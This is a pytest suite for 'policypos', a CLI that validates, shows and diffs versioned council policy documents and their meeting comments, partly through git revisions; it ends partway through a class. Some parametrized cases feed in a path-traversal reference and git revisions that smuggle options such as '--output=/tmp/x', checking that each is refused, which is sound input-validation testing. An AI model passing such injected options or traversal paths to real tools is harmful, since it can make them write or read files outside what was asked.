"""The command line, driven as a user drives it: arguments in, text and exit code out."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

import policypos
from policypos import NotFoundError
from policypos.cli import cli
from tests.conftest import DOCUMENT, MEETING, ROOT, SHIPPED, VERSION, MakeRepo
from tests.golden import assert_golden


def on_a_terminal(command: list[str], env: dict[str, str] | None = None) -> tuple[int, str]:
    """Run *command* with a pseudo-terminal as its output: its exit code and what it showed."""
    import pty

    controller, terminal = pty.openpty()
    with subprocess.Popen(command, stdout=terminal, stderr=terminal, env=env) as proc:
        os.close(terminal)
        chunks = []
        while True:
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # the terminal closed: the command has finished
                break
            if not chunk:
                break
            chunks.append(chunk)
    os.close(controller)
    return proc.returncode, b"".join(chunks).decode()


def run(*args: str, repo: Path = SHIPPED, env: dict[str, str] | None = None) -> Result:
    return CliRunner(env=env).invoke(cli, ["--repo", str(repo), *args], catch_exceptions=False)


class TestValidate:
    """policypos validate: problems on stdout, a summary on stderr, exit 1 on errors."""

    def test_clean(self) -> None:
        """The shipped positions pass, silently on stdout."""
        result = run("validate")
        assert (result.exit_code, result.stdout) == (0, "")
        assert result.stderr == f"{SHIPPED}: no problems\n"

    def test_errors(self, make_repo: MakeRepo) -> None:
        """Each problem is one compiler-style line; errors make the exit code 1."""
        root = make_repo(
            {"doc/versions/v1.yaml": VERSION.replace("status: endorsed", "status: done")}
        )
        result = run("validate", repo=root)
        assert result.exit_code == 1
        assert result.stdout == (
            f"{root}/doc/versions/v1.yaml:3:9: error: 'status' must be one of draft, proposed, "
            "endorsed, superseded, withdrawn; not 'done'\n"
        )
        assert result.stderr == f"1 error, 0 warnings in {root}\n"

    @pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
    def test_unicode_saved_by_windows(self, make_repo: MakeRepo, encoding: str) -> None:
        """A file saved as UTF-16 or UTF-32 (with its byte order mark) is one line at 1:1
        naming the encoding and the fix; a show of it is refused the same way, exit 2."""
        root = make_repo({"doc/versions/v1.yaml": VERSION.encode(encoding)})
        result = run("validate", repo=root)
        assert (result.exit_code, result.stdout) == (
            1,
            f"{root}/doc/versions/v1.yaml:1:1: error: file is {encoding.upper()} text "
            "(little-endian), not UTF-8: save it as UTF-8 (Save As, Encoding: UTF-8)\n",
        )
        shown = run("show", "doc@v1", repo=root)
        assert (shown.exit_code, shown.stderr) == (2, result.stdout)

    def test_warnings_pass_unless_strict(self, make_repo: MakeRepo) -> None:
        """Warnings are printed but fail only with --strict."""
        root = make_repo()
        assert run("validate", repo=root).exit_code == 0
        result = run("validate", "--strict", repo=root)
        assert result.exit_code == 1
        assert (
            result.stdout
            == f"{root}/doc/document.yaml:1:1: warning: document 'doc' has no versions yet\n"
        )
        assert result.stderr == f"0 errors, 1 warning in {root}\n"

    def test_no_repository(self, tmp_path: Path) -> None:
        """A repository that is not there is exit 2, one line, no traceback."""
        result = run("validate", repo=tmp_path / "nowhere")
        assert result.exit_code == 2
        assert (
            result.stderr
            == f"{tmp_path}/nowhere: error: no positions repository here (no such folder), "
            "named by --repo\n"
        )

    def test_folder_without_documents(self, tmp_path: Path) -> None:
        """A folder holding no document is refused, not read as an empty repository."""
        (tmp_path / "letters").mkdir()
        result = run("validate", repo=tmp_path)
        assert result.exit_code == 2
        assert result.stderr == (
            f"{tmp_path}: error: no positions repository here "
            "(no folder in it, nor in positions/, has a document.yaml), named by --repo\n"
        )

    def test_project_folder_means_its_positions(self) -> None:
        """--repo naming the folder that holds positions/ reads positions/, as the upward search does."""
        result = run("validate", repo=SHIPPED.parent)
        assert result.exit_code == 0
        assert result.stderr == f"{SHIPPED}: no problems\n"

    def test_repo_from_environment(self) -> None:
        """$POLICYPOS_REPO names the repository when --repo is not given."""
        result = CliRunner(env={"POLICYPOS_REPO": str(SHIPPED)}).invoke(cli, ["validate"])
        assert result.exit_code == 0
        assert result.stderr == f"{SHIPPED}: no problems\n"


class TestShow:
    """policypos show: one version's outline."""

    def test_text(self, update_goldens: bool) -> None:
        """The terminal outline numbers sections and statements (unwrapped when piped)."""
        result = run("show", "going-straight@2024")
        assert result.exit_code == 0
        assert_golden("show-going-straight-2024.txt", result.stdout, update_goldens)

    def test_markdown(self, update_goldens: bool) -> None:
        """--format markdown renders the outline template."""
        result = run("show", "going-straight@2005", "--format", "markdown")
        assert result.exit_code == 0
        assert_golden("show-going-straight-2005.md", result.stdout, update_goldens)

    def test_newest_by_default(self) -> None:
        """DOC alone is its newest version."""
        assert run("show", "going-straight").stdout == run("show", "going-straight@2024").stdout

    def test_in_force(self) -> None:
        """--in-force picks the version in force on a date."""
        result = run("show", "going-straight", "--in-force", "2015-03-01")
        assert "version 2005 · endorsed" in result.stdout
        result = run("show", "going-straight", "--in-force", "2001-01-01")
        assert result.exit_code == 2
        assert (
            result.stderr
            == "policypos: error: no version of 'going-straight' was in force on 2001-01-01\n"
        )

    def test_in_force_with_version_is_a_usage_error(self) -> None:
        """A version and a date together are contradictory: exit 2."""
        result = run("show", "going-straight@2024", "--at", "2015-03-01")
        assert result.exit_code == 2
        assert "give either DOC@VERSION or --at DATE, not both" in result.stderr

    def test_at_a_date_says_from_when_to_when(self, shipped: Path) -> None:
        """Once the Board endorses 2024 on 18 July, 10 July still shows 2005, and says until when."""
        for name, old, new in (
            ("2024", "status: proposed", "status: endorsed"),
            ("2005", "status: endorsed", "status: superseded"),
        ):
            path = shipped / f"going-straight/versions/{name}.yaml"
            path.write_text(path.read_text().replace(old, new))
        before = run("show", "going-straight", "--at", "2024-07-10", repo=shipped).stdout
        assert before.splitlines()[0] == (
            "Version 2005 was in force from 1 January 2005 until 18 July 2024."
        )
        assert "version 2005 · superseded" in before
        after = run(
            "show", "going-straight", "--at", "2024-07-18", "--format", "json", repo=shipped
        )
        import json

        data = json.loads(after.stdout)
        assert (data["id"], data["in_force"]) == ("2024", {"from": "2024-07-18", "until": None})

    def test_json(self) -> None:
        """show --format json: the version's fields as the file has them, every value kept."""
        import json

        from policypos import open_repository

        data = json.loads(run("show", "going-straight@2024", "--format", "json").stdout)
        assert (data["format"], data["document"], data["id"]) == (
            "policypos.version/1",
            "going-straight",
            "2024",
        )
        version = open_repository(SHIPPED).document("going-straight").version("2024")
        texts = [st["text"] for sec in data["sections"] for st in sec["statements"]]
        assert texts == [st.text for _, st in version.statements()]
        da3 = data["sections"][3]["statements"][2]
        assert (da3["id"], da3["kind"], da3["tags"]) == (
            "da-3",
            "position",
            ["treatment", "gambling"],
        )

    @pytest.mark.parametrize(
        ("reference", "message"),
        [
            (
                "nope",
                "policypos: error: no document 'nope' (known: cambridgeshire-reoffending, going-straight)",
            ),
            (
                "going-straight@1999",
                "policypos: error: no version 'going-straight@1999' (known: 2005, 2024)",
            ),
            (
                "../etc@x",
                "policypos: error: '../etc@x' is not a version reference: write DOC, "
                "DOC@VERSION or DOC@VERSION~REV, with ids made of letters, digits, '.', '_' and '-'",
            ),
        ],
    )
    def test_bad_references(self, reference: str, message: str) -> None:
        """Unknown or malformed references are exit 2 with one line."""
        result = run("show", reference)
        assert (result.exit_code, result.stdout, result.stderr) == (2, "", message + "\n")

    def test_broken_repository(self, make_repo: MakeRepo) -> None:
        """show refuses a repository with errors, printing each, exit 2."""
        root = make_repo({"doc/versions/v1.yaml": "", "doc/versions/v2.yaml": "- x\n"})
        result = run("show", "doc", repo=root)
        assert result.exit_code == 2
        assert result.stderr.splitlines() == [
            f"{root}/doc/versions/v1.yaml:1:1: error: file is empty",
            f"{root}/doc/versions/v2.yaml:1:1: error: version file must be a mapping of keys to values, not a list",
        ]

    def test_debug_shows_the_exception(self) -> None:
        """--debug lets the library's exception through, for a traceback."""
        with pytest.raises(NotFoundError):
            CliRunner().invoke(
                cli, ["--repo", str(SHIPPED), "--debug", "show", "nope"], catch_exceptions=False
            )


class TestLogAndComments:
    """policypos log and comments: the document's history and its comment log."""

    def test_log(self, update_goldens: bool) -> None:
        """Versions and meetings in date order, one a line."""
        result = run("log", "going-straight")
        assert result.exit_code == 0
        assert_golden("log-going-straight.txt", result.stdout, update_goldens)

    def test_comments(self, update_goldens: bool) -> None:
        """Every comment with its disposition, the response and what cites it."""
        result = run("comments", "going-straight")
        assert result.exit_code == 0
        assert_golden("comments-going-straight.txt", result.stdout, update_goldens)

    def test_cabinet_response(self, update_goldens: bool) -> None:
        """The Cabinet's answers to the scrutiny recommendations."""
        result = run("comments", "cambridgeshire-reoffending")
        assert_golden("comments-cambridgeshire.txt", result.stdout, update_goldens)

    def test_filters(self) -> None:
        """--meeting and --disposition narrow the log, and combine."""
        result = run("comments", "going-straight", "--disposition", "open")
        heads = [
            line.split()[0]
            for line in result.stdout.splitlines()
            if line and not line.startswith(" ")
        ]
        assert heads == ["sscb-2024-07/9", "sscb-2024-07/10"]
        result = run(
            "comments",
            "going-straight",
            "--meeting",
            "sscb-2024-03",
            "--disposition",
            "referred",
            "--disposition",
            "deferred",
        )
        heads = [
            line.split()[0]
            for line in result.stdout.splitlines()
            if line and not line.startswith(" ")
        ]
        assert heads == ["sscb-2024-03/3.6", "sscb-2024-03/3.7"]

    def test_unknown_meeting_or_disposition(self) -> None:
        """An unknown meeting is an error, not an empty log; an unknown disposition a usage error."""
        result = run("comments", "going-straight", "--meeting", "sscb-1999")
        assert result.exit_code == 2
        assert result.stderr.startswith("policypos: error: no meeting 'sscb-1999'")
        assert run("comments", "going-straight", "--disposition", "lost").exit_code == 2

    def test_log_json(self) -> None:
        """log --format json: versions and meetings in date order, with their counts."""
        import json

        data = json.loads(run("log", "going-straight", "--format", "json").stdout)
        assert data["format"] == "policypos.log/1"
        assert [(e["kind"], e["id"]) for e in data["entries"]] == [
            ("version", "2005"),
            ("meeting", "sscb-2024-03"),
            ("version", "2024"),
            ("meeting", "sscb-2024-07"),
        ]
        v2024, m03 = data["entries"][2], data["entries"][1]
        assert v2024["counts"] == {"sections": 5, "statements": 22}
        assert (v2024["based_on"], v2024["meeting"]) == ("2005", "sscb-2024-07")
        assert m03["counts"]["dispositions"]["addressed"] == 5

    def test_what_did_we_do_about(self, update_goldens: bool) -> None:
        """comments DOC 3.2: the comment, then the word-diff of the places citing it."""
        result = run("comments", "going-straight", "3.2")
        assert result.exit_code == 0
        assert_golden("comment-going-straight-3.2.txt", result.stdout, update_goldens)
        assert result.stdout == run("comments", "going-straight", "sscb-2024-03/3.2").stdout

    def test_answer_without_an_earlier_version(self) -> None:
        """A first version answering recommendations shows the cited text as added."""
        result = run("comments", "cambridgeshire-reoffending", "cabinet-2014-04/2")
        assert result.exit_code == 0
        assert "Answered in 2014 (proposed, 2014-04-15), its first version:" in result.stdout
        assert "\n  + " in result.stdout

    def test_comment_nobody_cites(self) -> None:
        """A referred comment is shown with its referral, and said to be cited by no version."""
        result = run("comments", "going-straight", "3.7")
        assert "referred to: Local Infrastructure and Net Zero Board" in result.stdout
        assert result.stdout.endswith("\nNo version cites it.\n")

    def test_ambiguous_bare_id(self, make_repo: MakeRepo) -> None:
        """A bare id two meetings used must be written MEETING/COMMENT."""
        other = MEETING.replace("id: m1", "id: m2").replace("2024-02-01", "2024-03-01")
        root = make_repo({"doc/meetings/m1.yaml": MEETING, "doc/meetings/m2.yaml": other})
        result = run("comments", "doc", "1", repo=root)
        assert (result.exit_code, result.stderr) == (
            2,
            "policypos: error: comment '1' was made at more than one meeting (m1/1, m2/1): "
            "write MEETING/COMMENT\n",
        )
        assert run("comments", "doc", "m2/1", repo=root).exit_code == 0

    @pytest.mark.parametrize(
        ("args", "message"),
        [
            (["9.9"], "policypos: error: no comment '9.9' (known: sscb-2024-03/2, "),
            (["sscb-2024-03/9"], "policypos: error: no comment 'sscb-2024-03/9' (known: 2, 3.1,"),
            (["3.2", "--meeting", "sscb-2024-03"], "give COMMENT or filter with"),
        ],
    )
    def test_comment_refused(self, args: list[str], message: str) -> None:
        """Unknown comments are exit 2 with the known ones; COMMENT with filters is a usage error."""
        result = run("comments", "going-straight", *args)
        assert result.exit_code == 2
        assert message in result.stderr

    def test_json(self) -> None:
        """--format json: every comment with what cites it; with COMMENT, its answers."""
        import json

        log = json.loads(run("comments", "going-straight", "--format", "json").stdout)
        assert (log["format"], log["document"]) == ("policypos.comments/1", "going-straight")
        by_ref = {c["ref"]: c for c in log["comments"]}
        assert (
            by_ref["sscb-2024-03/3.7"]["referred_to"] == "Local Infrastructure and Net Zero Board"
        )
        assert by_ref["sscb-2024-03/3.3"]["cited_by"] == [
            {
                "version": "2024",
                "places": [
                    "individual-support",
                    "individual-support/da-3",
                    "individual-support/is-1",
                ],
            }
        ]
        one = json.loads(run("comments", "going-straight", "3.3", "--format", "json").stdout)
        assert one["format"] == "policypos.comment/1"
        (answer,) = one["comment"]["answers"]
        assert (answer["version"], answer["base"]) == ("2024", "2005")
        assert [s["id"] for s in answer["sections"]] == ["individual-support"]
        assert "statements" not in answer["sections"][0]
        assert [(s["id"], s["change"]) for s in answer["statements"]] == [
            ("da-3", "modified"),
            ("is-1", "added"),
        ]

    def test_unknown_document(self) -> None:
        """log on an unknown document is exit 2."""
        assert run("log", "nope").exit_code == 2


class TestProcess:
    """The installed command, as a shell runs it."""

    def env(self) -> dict[str, str]:
        return {**os.environ, "POLICYPOS_REPO": str(SHIPPED)}

    def test_version(self) -> None:
        """--version names the program and its version."""
        result = subprocess.run(
            [sys.executable, "-m", "policypos", "--version"],
            capture_output=True,
            text=True,
            check=True,
        )
        assert result.stdout.startswith("policypos ")

    def test_broken_pipe(self, tmp_path: Path) -> None:
        """A reader that stops early (| head) causes no traceback."""
        with (tmp_path / "stderr").open("wb") as stderr:
            proc = subprocess.Popen(
                [sys.executable, "-m", "policypos", "comments", "going-straight"],
                stdout=subprocess.PIPE,
                stderr=stderr,
                env={**self.env(), "PYTHONUNBUFFERED": "1"},
            )
            assert proc.stdout is not None
            proc.stdout.close()  # the reader goes away before anything is written
            proc.wait()
        assert b"Traceback" not in (tmp_path / "stderr").read_bytes()
        assert proc.returncode == 141  # 128 + SIGPIPE, not 1: "found differences"

    def test_wraps_in_a_terminal(self) -> None:
        """Writing to a terminal, the outline folds to its width (COLUMNS); piped, it does not."""

        env = {**self.env(), "COLUMNS": "60", "NO_COLOR": "1"}
        command = [sys.executable, "-m", "policypos", "show", "going-straight@2024"]
        code, shown = on_a_terminal(command, env)
        lines = shown.replace("\r\n", "\n").splitlines()
        piped = run("show", "going-straight@2024").stdout.splitlines()
        assert code == 0
        assert lines[6:10] == [
            "   1.1   Reducing re-offending takes councils, probation,",
            "         health services, the police and the voluntary",
            "         sector working as one; council community safety",
            "         teams need a clear and funded place in that work.  gen-1",
        ]
        assert piped[6].startswith(
            "   1.1   Reducing re-offending takes councils, probation, health "
        )
        assert piped[6].endswith(" in that work.  gen-1")

    def test_disposition_choices_are_the_models(self) -> None:
        """The --disposition choices, spelt out in the CLI for a quick start, are the model's."""
        from policypos import Disposition
        from policypos.cli import _DISPOSITIONS

        assert tuple(d.value for d in Disposition) == _DISPOSITIONS


def test_ctrl_c_exits_130(monkeypatch: pytest.MonkeyPatch) -> None:
    """Interrupted is not "found problems" (1): exit 130, as shells report SIGINT, one line."""
    import importlib

    def interrupted(*args: Any, **kwargs: Any) -> None:
        raise KeyboardInterrupt

    module = importlib.import_module("policypos.validate")
    monkeypatch.setattr(module, "open_checked", interrupted)
    result = run("validate")
    assert result.exit_code == 130
    assert result.stderr == "\npolicypos: interrupted\n"


class TestDiff:
    """policypos diff: a word-diff for people, the change set JSON for tools."""

    def test_text(self, update_goldens: bool) -> None:
        """The word-diff of the shipped 2005 and 2024 positions, grouped by section."""
        result = run("diff", "going-straight@2005", "going-straight@2024")
        assert result.exit_code == 0
        assert_golden("diff-going-straight-2005-2024.txt", result.stdout, update_goldens)

    def test_json(self) -> None:
        """--format json prints the change set of FORMAT.md section 6, laid out as json.dumps does."""
        import json

        result = run("diff", "going-straight@2005", "going-straight", "--format", "json")
        data = json.loads(result.stdout)
        assert result.stdout == json.dumps(data, indent=2, ensure_ascii=False) + "\n"
        assert data["format"] == "policypos.changeset/1"
        assert (data["old"]["version"], data["new"]["version"]) == ("2005", "2024")
        assert data["summary"]["statements"]["moved"] == 1

    def test_output_file(self, tmp_path: Path) -> None:
        """-o writes the file (replacing any old one) and prints nothing."""
        target = tmp_path / "changes.json"
        target.write_text("old contents")
        result = run(
            "diff",
            "going-straight@2005",
            "going-straight@2024",
            "--format",
            "json",
            "-o",
            str(target),
        )
        assert (result.exit_code, result.stdout) == (0, "")
        assert target.read_text().startswith('{\n  "format": "policypos.changeset/1"')
        assert [p.name for p in tmp_path.iterdir()] == ["changes.json"]

    def test_output_to_missing_folder(self, tmp_path: Path) -> None:
        """A file that cannot be written is exit 2 with one line."""
        result = run(
            "diff",
            "going-straight@2005",
            "going-straight@2024",
            "-o",
            str(tmp_path / "no" / "x.txt"),
        )
        assert result.exit_code == 2
        assert result.stderr.startswith(f"policypos: error: cannot write {tmp_path}/no/x.txt: ")

    def test_output_through_a_link(self, tmp_path: Path) -> None:
        """-o on a symbolic link replaces the file it points to; the link stays a link."""
        target, link = tmp_path / "changes.txt", tmp_path / "link.txt"
        target.write_text("old contents")
        link.symlink_to(target.name)
        result = run("diff", "going-straight@2005", "going-straight@2024", "-o", str(link))
        assert result.exit_code == 0, result.output
        assert link.is_symlink()
        assert target.read_text().startswith("going-straight")
        assert sorted(p.name for p in tmp_path.iterdir()) == ["changes.txt", "link.txt"]

    def test_output_to_a_pipe_writes_through_it(self, tmp_path: Path) -> None:
        """-o on a FIFO (or a device, /dev/null) writes into it as > would: no file replaces it."""
        import stat
        import threading

        fifo = tmp_path / "fifo"
        os.mkfifo(fifo)
        read: list[bytes] = []
        reader = threading.Thread(target=lambda: read.append(fifo.read_bytes()))
        reader.start()
        result = run("diff", "going-straight@2005", "going-straight@2024", "-o", str(fifo))
        reader.join(timeout=30)
        assert result.exit_code == 0, result.output
        assert stat.S_ISFIFO(fifo.stat().st_mode)
        assert read
        assert read[0].startswith(b"going-straight")

    def test_output_file_not_writable_is_refused(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A read-only file is not replaced behind its back (renaming needs only the folder)."""
        target = tmp_path / "changes.txt"
        target.write_text("kept")
        target.chmod(0o444)
        if os.geteuid() == 0:  # root may write any file: answer as for another user
            access = os.access
            monkeypatch.setattr(
                os, "access", lambda path, mode, **kw: path != target and access(path, mode, **kw)
            )
        result = run("diff", "going-straight@2005", "going-straight@2024", "-o", str(target))
        assert result.exit_code == 2
        assert "Permission denied" in result.stderr
        assert target.read_text() == "kept"

    def test_exit_code(self) -> None:
        """--exit-code: 1 when the versions differ, 0 when they do not."""
        assert (
            run("diff", "going-straight@2005", "going-straight@2024", "--exit-code").exit_code == 1
        )
        assert (
            run("diff", "going-straight@2024", "going-straight@2024", "--exit-code").exit_code == 0
        )

    def test_different_documents(self) -> None:
        """Versions of two different documents cannot be compared."""
        result = run("diff", "going-straight", "cambridgeshire-reoffending")
        assert result.exit_code == 2
        assert result.stderr == (
            "policypos: error: going-straight and cambridgeshire-reoffending are versions of different documents\n"
        )

    def test_markdown(self, update_goldens: bool) -> None:
        """--format markdown: a paragraph per section, the comments, then tracked changes."""
        result = run("diff", "going-straight@2005", "going-straight@2024", "--format", "markdown")
        assert result.exit_code == 0
        assert_golden("diff-going-straight-2005-2024.md", result.stdout, update_goldens)

    def test_split_and_merge(self, make_repo: MakeRepo) -> None:
        """A statement split in two and two merged into one are named as such in every format."""
        import json

        first = "Probation and councils should share the addresses of people leaving prison."
        second = "Every prison should offer advice on debt and benefits before release."
        third = "Families of prisoners should be told where to find support near home."
        fourth = "Councils should fund mentoring schemes run by former offenders."

        def statements(*items: tuple[str, str]) -> str:
            return "".join(f"      - id: {i}\n        text: {t}\n" for i, t in items)

        head = "version: {v}\ndate: 2024-0{m}-01\nstatus: draft\nsections:\n  - id: s\n    title: S\n    statements:\n"
        root = make_repo(
            {
                "doc/versions/v1.yaml": head.format(v="v1", m=1)
                + statements(("a", f"{first} {second}"), ("b", third), ("c", fourth)),
                "doc/versions/v2.yaml": head.format(v="v2", m=2)
                + statements(("a", first), ("a2", second), ("b", f"{third} {fourth}")),
            }
        )
        text = run("diff", "doc@v1", "doc@v2", repo=root).stdout
        # A part carried word for word: its words shown as they stood, nothing marked.
        assert "  + a2 (split from a)  Every prison" in text
        assert "  - c (merged into b)  Councils should" in text
        assert "  ~ a (part split out into a2)  Probation" in text
        assert "  ~ b (part merged in from c)  Families" in text
        markdown = run("diff", "doc@v1", "doc@v2", "--format", "markdown", repo=root).stdout
        # Named by the numbers the annexes give them, the id kept beside the number.
        assert "- **1.2** `a2` (split out of former paragraph 1.1): Every prison" in markdown
        assert (
            "Paragraph 1.2 was split out of former paragraph 1.1. "
            "Former paragraph 1.3 was merged into paragraph 1.3." in markdown
        )
        assert "- **Former 1.3** `c` (merged into paragraph 1.3): Councils should" in markdown
        data = json.loads(run("diff", "doc@v1", "doc@v2", "--format", "json", repo=root).stdout)
        entries = {e["id"]: e for e in data["sections"][0]["statements"]}
        assert (entries["a2"]["split_from"], entries["c"]["merged_into"]) == ("a", "b")

    def test_between_meetings(self) -> None:
        """--between compares the versions presented to two meetings."""
        between = run("diff", "going-straight", "--between", "sscb-2024-03", "sscb-2024-07")
        assert between.exit_code == 0
        assert between.stdout == run("diff", "going-straight@2005", "going-straight@2024").stdout

    def test_new_alone_is_compared_with_its_base(self) -> None:
        """NEW alone is diffed against the version it is based on, as render changes does."""
        alone = run("diff", "going-straight@2024")
        assert alone.exit_code == 0
        assert alone.stdout == run("diff", "going-straight@2005", "going-straight@2024").stdout
        first = run("diff", "going-straight@2005")
        assert first.exit_code == run("render", "changes", "going-straight@2005").exit_code == 2
        assert "no earlier version to compare with" in first.stderr

    def test_new_alone_follows_based_on_not_the_date(self, make_repo: MakeRepo) -> None:
        """A draft branched from v1 after v2 was written is compared with v1, its base."""

        def draft(vid: str, date: str, text: str, base: str) -> str:
            return (
                VERSION.replace('"v1"', f'"{vid}"')
                .replace("2024-01-01", date)
                .replace("status: endorsed", f"status: draft\nbased_on: {base}")
                .replace("First.", text)
            )

        root = make_repo(
            {
                "doc/versions/v1.yaml": VERSION,
                "doc/versions/v2.yaml": draft("v2", "2024-02-01", "Second.", "v1"),
                "doc/versions/v3.yaml": draft("v3", "2024-03-01", "First, again.", "v1"),
            }
        )
        alone = run("diff", "doc@v3", repo=root)
        assert alone.exit_code == 0, alone.output
        assert alone.stdout == run("diff", "doc@v1", "doc@v3", repo=root).stdout

    @pytest.mark.parametrize(
        ("args", "message"),
        [
            (["going-straight", "x", "--between", "a", "b"], "with --between, give only DOC"),
            (
                ["going-straight@2005", "--between", "a", "b"],
                "with --between, give DOC without @VERSION",
            ),
        ],
    )
    def test_between_usage(self, args: list[str], message: str) -> None:
        """Mixing the two ways of naming versions is a usage error, exit 2."""
        result = run("diff", *args)
        assert result.exit_code == 2
        assert message in result.stderr


def git(root: Path, *args: str) -> None:
    subprocess.run(
        [
            "git",
            "-c",
            "user.name=Test",
            "-c",
            "user.email=test@example.org",
            "-c",
            "commit.gpgsign=false",
            *args,
        ],
        cwd=root,
        check=True,
        capture_output=True,
    )


@pytest.fixture
def git_repo(make_repo: MakeRepo, tmp_path: Path) -> Path:
    """A repository in a git work tree (whose top is its parent) with two commits of doc@v1."""
    root = make_repo({"doc/versions/v1.yaml": VERSION})
    git(tmp_path, "init", "--quiet")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "--quiet", "-m", "first")
    (root / "doc/versions/v1.yaml").write_text(VERSION.replace("First.", "First, revised."))
    git(tmp_path, "commit", "--quiet", "-am", "second")
    return root


class TestDiffFromGit:
    """DOC@VERSION~REV reads the version as it was in a git revision (FORMAT.md section 5)."""

    def test_earlier_commit(self, git_repo: Path) -> None:
        """The version as committed one revision back, against the version now."""
        result = run("diff", "doc@v1~HEAD~1", "doc@v1", repo=git_repo)
        assert result.exit_code == 0, result.stderr
        assert result.stdout.splitlines()[0] == (
            "doc: v1 as at HEAD~1 (endorsed, 2024-01-01) -> v1 (endorsed, 2024-01-01)"
        )
        assert "  ~ a [reworded]  First{+, revised+}." in result.stdout

    def test_uncommitted_edit(self, git_repo: Path) -> None:
        """Against HEAD, the diff shows what was edited since the last commit."""
        assert run("diff", "doc@v1~HEAD", "doc@v1", "--exit-code", repo=git_repo).exit_code == 0
        path = git_repo / "doc/versions/v1.yaml"
        path.write_text(path.read_text().replace("revised", "rewritten"))
        result = run("diff", "doc@v1~HEAD", "doc@v1", "--exit-code", repo=git_repo)
        assert result.exit_code == 1
        assert "First, [-revised-]{+rewritten+}." in result.stdout

    def test_show(self, git_repo: Path) -> None:
        """show reads the version as it was, too."""
        result = run("show", "doc@v1~HEAD~1", repo=git_repo)
        assert result.exit_code == 0
        assert "First." in result.stdout
        assert "revised" not in result.stdout

    def test_json_names_the_revision(self, git_repo: Path) -> None:
        """The change set says which revision each side came from (an optional field)."""
        import json

        result = run("diff", "doc@v1~HEAD~1", "doc@v1~HEAD", "--format", "json", repo=git_repo)
        data = json.loads(result.stdout)
        assert (data["old"]["revision"], data["new"]["revision"]) == ("HEAD~1", "HEAD")
        plain = json.loads(
            run("diff", "doc@v1", "doc@v1", "--format", "json", repo=git_repo).stdout
        )
        assert "revision" not in plain["old"]

    @pytest.mark.parametrize(
        ("reference", "message"),
        [
            ("doc@v1~--output=/tmp/x", "'--output=/tmp/x' is not a git revision"),
            ("doc@v1~-p", "'-p' is not a git revision"),
            ("doc@v1~HEAD x", "'HEAD x' is not a git revision"),
            ("doc@v1~", "'' is not a git revision"),
            (
                "doc~HEAD",
                "'doc~HEAD' is not a version reference: a git revision (~HEAD) reads one "
                "version's file, so name the version, as doc@VERSION~HEAD",
            ),
            ("doc~HEAD~1@v1", "(~HEAD~1) reads one version's file, so it goes after the version"),
            ("doc@v1~nope", "no commit 'nope' in the git repository at "),
            ("doc@v1~HEAD~7", "no commit 'HEAD~7' in the git repository at "),
            ("doc@v2~HEAD", "doc/versions/v2.yaml did not exist in git revision 'HEAD'"),
            ("doc@v1~HEAD~1..HEAD", "'doc@v1~HEAD~1..HEAD': 'HEAD~1..HEAD' is a range of git"),
            ("doc@v1~HEAD...HEAD~1", "'HEAD...HEAD~1' is a range of git commits"),
            ("doc@v1~HEAD^!", "'HEAD^!' is a range of git commits"),
            ("doc@v1~HEAD^@", "'HEAD^@' is a range of git commits"),
            ("doc@v1~HEAD:doc/versions/v1.yaml", "':' names a file in a commit"),
            ("doc@v1~:/second", "'doc@v1~:/second': ':/second' is not a git revision"),
            ("doc@HEAD:x", "a git revision goes after the version, as going-straight@2024~HEAD~1"),
        ],
    )
    def test_refused(self, git_repo: Path, reference: str, message: str) -> None:
        """Revisions that look like options, name nothing, or name a range or a file rather than
        one commit, are one error line naming the argument, and exit 2."""
        result = run("diff", reference, "doc@v1", repo=git_repo)
        assert result.exit_code == 2
        assert result.stderr.startswith("policypos: error: ")
        assert message in result.stderr
        assert result.stderr.count("\n") == 1

    def test_no_such_commit_names_the_git_repository(self, git_repo: Path, tmp_path: Path) -> None:
        """A revision git does not know is looked for in the git repository, whose top folder
        is named: not the positions folder inside it, which is not where git looks."""
        result = run("diff", "doc@v1~nosuchrev", "doc@v1", repo=git_repo)
        assert result.exit_code == 2
        assert result.stderr == (
            f"policypos: error: no commit 'nosuchrev' in the git repository at "
            f"{tmp_path.resolve()}\n"
        )

    def test_malformed_at_revision(self, git_repo: Path, tmp_path: Path) -> None:
        """A version file that was broken in that revision is reported at its revision and line."""
        path = git_repo / "doc/versions/v1.yaml"
        path.write_text(VERSION.replace("status: endorsed", "status: done"))
        git(tmp_path, "commit", "--quiet", "-am", "broken")
        path.write_text(VERSION)
        result = run("diff", "doc@v1~HEAD", "doc@v1", repo=git_repo)
        assert result.exit_code == 2
        assert result.stderr.startswith(
            f"HEAD:{git_repo}/doc/versions/v1.yaml:3:9: error: 'status'"
        )

    @pytest.mark.parametrize("args", [["doc@v1~HEAD", "doc@v1"], ["doc@v1", "--staged"]])
    def test_not_a_git_repository(
        self, make_repo: MakeRepo, tmp_path: Path, args: list[str]
    ) -> None:
        """Outside git, the error says so (git's own words, on one line), for a revision and for
        git's index alike: not that the file is missing from them."""
        root = make_repo({"doc/versions/v1.yaml": VERSION})
        result = run("diff", *args, repo=root, env={"GIT_CEILING_DIRECTORIES": str(tmp_path)})
        assert result.exit_code == 2
        assert result.stderr.startswith("policypos: error: git: fatal: not a git repository")
        assert result.stderr.count("\n") == 1


PLAN = VERSION.replace("First.", "Councils should plan housing.")
SOFTENED = PLAN.replace("should", "may wish to")
# The hook docs/diff.md gives, for the version doc@v2.
HOOK = "diff doc@v2~HEAD doc@v2 --staged --allow-new --significance substantive --exit-code"


@pytest.fixture
def committed(make_repo: MakeRepo, tmp_path: Path) -> Path:
    """doc@v1 committed, and doc@v2 committed as a draft based on it with the same text."""
    draft = PLAN.replace('"v1"', '"v2"').replace("status: endorsed", "status: draft\nbased_on: v1")
    root = make_repo(
        {"doc/versions/v1.yaml": PLAN, "doc/versions/v2.yaml": draft.replace("01-01", "03-01")}
    )
    git(tmp_path, "init", "--quiet")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "--quiet", "-m", "first")
    return root


def stage(root: Path, relative: str, text: str, *, then: str | None = None) -> None:
    """Stage *text* as the file, then leave the work tree holding *then* (if given)."""
    path = root / relative
    path.write_text(text)
    git(root, "add", relative)
    if then is not None:
        path.write_text(then)


class TestPreCommitHook:
    """The hook of docs/diff.md compares what is being committed (git's index) with HEAD."""

    def v2(self, root: Path) -> str:
